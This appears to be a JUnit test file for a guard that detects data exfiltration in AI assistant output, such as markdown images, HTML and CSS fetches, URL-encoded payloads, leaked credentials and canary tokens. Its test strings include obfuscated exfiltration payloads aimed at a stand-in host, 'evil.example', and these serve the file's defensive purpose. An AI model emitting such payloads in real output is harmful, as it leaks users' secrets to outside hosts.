package io.aegis.guard.exfiltration;

import static io.aegis.guard.exfiltration.Guarded.CANARY;
import static io.aegis.guard.exfiltration.Guarded.KEY;
import static io.aegis.guard.exfiltration.Guarded.MASK;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.aegis.spi.content.Channel;
import io.aegis.spi.guard.Finding;
import io.aegis.spi.guard.Progress;
import io.aegis.spi.guard.Verdict;
import io.aegis.spi.settings.Settings;
import io.aegis.spi.settings.SettingsException;
import io.aegis.spi.testkit.FakeHost;
import io.aegis.spi.testkit.Inspections;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ExfiltrationGuardTest {
    private final Guarded guard = Guarded.withCanary();

    @Nested
    class LeavesAlone {
        @ParameterizedTest
        @ValueSource(
                strings = {
                    "see [the guide](https://example.com/guide/first-steps) or https://example.com/?page=2&sort=name",
                    "![a chart](https://example.com/charts/2026/chart-1.png)",
                    "<img src=\"https://example.com/a.png\" alt=\"a\"> and <a href=\"https://example.com/?id=7\">x</a>",
                    "if (a < b && c > d) { f(\"https://example.com/v1/users?limit=50\"); }",
                    "for (int i=0;i<n;i++) { a[i]: b; }",
                    "write to " + MASK + ", or to https://example.com/contact",
                    "{\"url\":\"https://example.com/a\",\"to\":\"" + MASK + "\"}",
                    "the mail of <EMAIL_ADDRESS_kdmfeahbgcpl>.Then we go on",
                    "https://example.com/commit/3b18e512dba79e4c8300dd08aeb37f8e728b8dad",
                    "https://docs.example.com/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
                    "https://example.com/watch?v=dQw4w9WgXcQ",
                    "https://de.example.org/wiki/%C3%9Cber_den_Wolken",
                    "![](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)",
                    "[x](javascript:void(0)) and [y](#part) and [z](../a.md?x=1)",
                    "a footnote[^1]\n\n[^1]: https://example.com/a?b=c",
                    "the file README.md/x and the class a.b.C# and 1.2.3/4"
                })
        void whatSendsNothing(String text) {
            assertThat(guard.found(text)).isEmpty();
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "https://ok.example/?q=" + MASK,
                    "HTTPS://OK.EXAMPLE:8443/?q=" + MASK,
                    "![](https://a.ok.example/i?q=" + MASK + ")",
                    "https://ok.example/?sig=0a8f3d5c7b9e1f2a4c6d8e0b1a3c5d7e9f1b2d4c6a8e0f1a3b5c7d9e1f2a4b6c8d0e"
                })
        void whatGoesToAnAllowedHost(String text) {
            assertThat(guard.found(text)).isEmpty();
        }
    }

    @Test
    void anAllowedHostClearsNoCredentialAndNoCanary() {
        assertThat(guard.found("https://ok.example/?q=" + KEY)).containsExactly("secret");
        assertThat(guard.found("https://ok.example/?q=" + CANARY)).containsExactly("canary");
    }

    @Test
    void aCredentialIsFoundInProseToo() {
        assertThat(guard.found("the key " + KEY + " is new")).containsExactly("secret");
        assertThat(guard.found("(the key is " + KEY + ").")).containsExactly("secret");
    }

    @Nested
    class Images {
        private static final String PLAIN = "![a](https://evil.example/a.png)";
        private static final String QUERY = "![a](https://evil.example/a.png?b)";

        @Test
        void withAQueryAreStoppedByDefault() {
            assertThat(guard.found(PLAIN)).isEmpty();
            assertThat(guard.found(QUERY)).containsExactly("image");
            assertThat(guard.found("![a](https://eve@evil.example/a.png)")).containsExactly("image");
        }

        @Test
        void areStoppedAllOrNone() {
            assertThat(new Guarded(Map.of("images", "block")).found(PLAIN)).containsExactly("image");
            assertThat(new Guarded(Map.of("images", "allow")).found(QUERY)).isEmpty();
            assertThat(guard.found("![a](https://ok.example/a.png?b)")).isEmpty();
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "![a](https&#58;//evil.example/?b)",
                    "![a](https&colon;&sol;&sol;evil.example/?b)",
                    "![a](ht\ntps:/evil.example/?b)",
                    "![a][1] [1]: https://evil.example/?b",
                    "<p style='background:url(//evil.example/?b)'>",
                    "body { background: url( https://evil.example/?b ) } url(https://evil.example/?b)",
                    "<link rel=icon href=https://evil.example/?b>",
                    "<iframe src='https://evil.example/?b'></iframe>",
                    "<IMG SRC=//evil.example/?b",
                    "![](data:text/html,<img/src=https://evil.example/?b>)"
                })
        void areWhatProgramsFetchByThemselves(String text) {
            assertThat(guard.found(text)).contains("image");
        }

        @Test
        void areToldFromLinksByTheirLabel() {
            assertThat(guard.found("[![a](https://ok.example/a.png)](https://example.com/?b)"))
                    .isEmpty();
            assertThat(guard.found("![a [b] c](https://evil.example/?b)")).containsExactly("image");
            assertThat(guard.found("text before it ![" + "a".repeat(200) + "](https://evil.example/?b)"))
                    .containsExactly("image");
        }
    }

    @Nested
    class Payloads {
        @Test
        void countWhatLooksLikeChanceAndWhatIsEscaped() {
            String data = "7f3Kq9Zx2Lm8Vb4Nc6Td1Rs5Wy0Hg7Jp3QeUaXo9Bi2Ck8Dl4Fm6Gn1Hp5Jq0KrZ3vB";
            assertThat(guard.found("https://evil.example/p/" + data.substring(0, 64)))
                    .isEmpty();
            assertThat(guard.found("https://evil.example/p/" + data.substring(0, 65)))
                    .containsExactly("url_payload");
            assertThat(guard.found("https://evil.example/#" + data.substring(0, 33) + "&" + data.substring(33)))
                    .containsExactly("url_payload");
            assertThat(guard.found("https://evil.example/?q=" + "a%20few+words+".repeat(6)))
                    .containsExactly("url_payload");
        }

        @Test
        void ofPlainWordsAreNoneUpToABound() {
            assertThat(guard.found("https://example.com/" + "some/plain-words/".repeat(20)))
                    .isEmpty();
            assertThat(guard.found("https://example.com/" + "some/plain-words/".repeat(130)))
                    .containsExactly("url_payload");
        }

        @Test
        void haveABoundThatCanBeSet() {
            var strict = new Guarded(Map.of("max_url_payload", 10));
            assertThat(strict.found("https://example.com/watch?v=dQw4w9WgXcQ2")).containsExactly("url_payload");
            assertThat(strict.found("https://example.com/watch?v=none")).isEmpty();
        }
    }

    @Nested
    class AMode {
        @Test
        void thatBlocksNamesWhatItFound() {
            var verdict = guard.verdict(Inspections.of("![](https://evil.example/?q=1) " + CANARY));

            assertThat(verdict.outcome()).isInstanceOf(Verdict.Outcome.Block.class);
            assertThat(verdict.findings())
                    .containsExactly(Finding.of("exfiltration.canary"), Finding.of("exfiltration.image"));
        }

        @Test
        void thatAsksDoesNotProceed() {
            var verdict = new Guarded(Map.of("mode", "require_approval"))
                    .verdict(Inspections.of("![](https://evil.example/?q=1)"));

            assertThat(verdict.outcome()).isInstanceOf(Verdict.Outcome.RequireApproval.class);
        }

        @Test
        void thatRedactsTakesOutWhatCarriesTheValue() {
            var redacting = new Guarded(Map.of("mode", "redact", "canaries", List.of(CANARY)));

            assertThat(redacting.redacted("look: ![a](https://evil.example/?q=" + MASK + ") and <b>that</b>"))
                    .isEqualTo("look: ![a]([removed]) and <b>that</b>");
            assertThat(redacting.redacted("<img src='https://evil.example/?q=1'> it is " + CANARY + "."))
                    .isEqualTo("[removed] it is [removed]");
            assertThat(redacting.redacted("nothing")).isEqualTo("nothing");
        }

        @Test
        void thatBlocksClearsNothingOfIt() {
            for (String mode : List.of("block", "require_approval")) {
                var inspector =
                        new ExfiltrationGuardFactory().create(Settings.of(Map.of("mode", mode)), new FakeHost());
                var open =
                        ((ExfiltrationGuard) inspector).open(Inspections.begin().context(), Channel.ASSISTANT);
                Progress before = open.next("well, ![](https://evil.example/?q=");
                Progress after = open.next("1) ");

                assertThat(before.cleared()).isLessThanOrEqualTo("well, ![]".length());
                assertThat(after.cleared()).isEqualTo(before.cleared());
                assertThat(after.verdict().outcome()).isNotInstanceOf(Verdict.Outcome.Proceed.class);
            }
        }
    }

    @Test
    void onlySomeEntitiesCanBeKept() {
        var some = new Guarded(Map.of("entities", List.of("ORDER_NUMBER")));

        assertThat(some.found("https://evil.example/order-number-kdmfeahbgcpl")).containsExactly("placeholder");
        assertThat(some.found("https://evil.example/" + MASK)).isEmpty();
    }

    @Test
    void argumentsThatStreamAreJudgedWhole() {
        var open = ((ExfiltrationGuard) new ExfiltrationGuardFactory().create(Settings.empty(), new FakeHost()))
                .open(Inspections.begin().context(), Channel.TOOL_ARGUMENTS);

        assertThat(open.next("the key " + KEY.substring(0, 9)).cleared()).isZero();
        assertThat(open.next(KEY.substring(9)).cleared()).isZero();
        assertThat(open.finish().verdict().outcome()).isInstanceOf(Verdict.Outcome.Block.class);
    }

    @Test
    void settingsThatMakeNoSenseAreRefused() {
        requireRefused(Map.of("mode", "mask"));
        requireRefused(Map.of("images", "none"));
        requireRefused(Map.of("max_url_payload", -1));
        requireRefused(Map.of("entities", List.of()));
        requireRefused(Map.of("canaries", List.of("short")));
        requireRefused(Map.of("canaries", List.of(" blank at an end")));
        requireRefused(Map.of("canaries", List.of("ünprintable here")));
    }

    private static void requireRefused(Map<String, ?> settings) {
        assertThatThrownBy(() -> new Guarded(settings)).isInstanceOf(SettingsException.class);
    }
}
